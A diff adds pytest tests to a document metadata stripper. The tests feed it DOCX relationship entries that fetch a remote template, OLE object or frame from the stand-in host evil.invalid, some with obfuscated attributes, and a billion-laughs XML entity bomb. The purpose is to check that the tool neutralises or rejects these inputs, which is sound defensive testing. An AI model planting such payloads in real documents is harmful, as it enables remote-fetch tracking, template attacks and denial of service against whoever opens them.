@@ -238,6 +238,27 @@ def test_who_commented_in_a_table_and_in_slides_goes() -> None:
     assert not any(name in content for content in members(strip_metadata(data, s.DOCX).data).values())
 
 
+@pytest.mark.parametrize(
+    "relation",
+    [
+        "<r Type='x/attachedTemplate' Target='http://evil.invalid/t.dotm' TargetMode='External'/>",
+        "<r Type='x/oleObject' Target='http://evil.invalid/?Type=/hyperlink' TargetMode='&#69;xternal'/>",
+        "<r Target=\"evil.invalid ' Type='/hyperlink'\" Type='x/frame' TargetMode='External'/>",
+    ],
+)
+def test_a_letter_that_would_fetch_something_when_opened_no_longer_does(relation: str) -> None:
+    for encoding in ("utf-8", "utf-16"):
+        hostile = f"<Relationships>{relation}</Relationships>".encode(encoding)
+        done = strip_metadata(s.docx(**{"word/_rels/document.xml.rels": hostile}), s.DOCX)
+        assert b"evil.invalid" not in members(done.data)["word/_rels/document.xml.rels"]
+
+
+def test_a_letter_of_a_billion_laughs_is_damaged() -> None:
+    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
+    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{lines}]><r>&l11;</r>'
+    assert reason(s.docx(**{"word/_rels/document.xml.rels": bomb.encode()}), s.DOCX) == "damaged"
+
+
 def test_embedded_objects_are_left_and_reported() -> None:
     done = strip_metadata(s.docx(**{"word/embeddings/table.xlsx": b"anything"}), s.DOCX)
     assert not done.complete
